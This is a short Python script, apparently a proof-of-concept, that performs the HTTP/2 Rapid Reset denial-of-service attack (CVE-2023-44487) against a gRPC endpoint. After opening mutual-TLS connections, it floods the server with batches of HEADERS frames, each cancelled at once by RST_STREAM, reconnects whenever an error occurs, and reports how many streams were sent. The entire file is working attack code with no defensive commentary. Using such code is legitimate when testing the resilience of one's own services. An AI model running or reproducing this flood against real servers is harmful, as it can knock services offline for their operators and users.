"""Streams of HTTP/2 that end as soon as they begin, as fast as they can be written (CVE-2023-44487). Prints how many.

usage: rapid_reset.py HOST PORT DIRECTORY-OF-THE-CERTIFICATE SECONDS"""

import pathlib
import socket
import ssl
import struct
import sys
import time

HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
AT_ONCE = 200


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """Of HPACK, neither indexed nor compressed."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


CALL = b"".join(literal(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/meshrun.v1.JobService/ListJobs"), (b":authority", b"c"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def connect(host, port, files):
    context = ssl.create_default_context(cafile=files / "ca.crt")
    context.load_cert_chain(files / "tls.crt", files / "tls.key")
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=host)


def main(host, port, files, seconds):
    until = time.monotonic() + float(seconds)
    count = 0
    while time.monotonic() < until:
        try:
            with connect(host, int(port), pathlib.Path(files)) as connection:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
                first = 1
                while time.monotonic() < until:
                    streams = range(first, first + 2 * AT_ONCE, 2)
                    connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, CANCEL)
                                                for stream in streams))
                    first, count = first + 2 * AT_ONCE, count + AT_ONCE
        except OSError:
            pass
    print(count, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
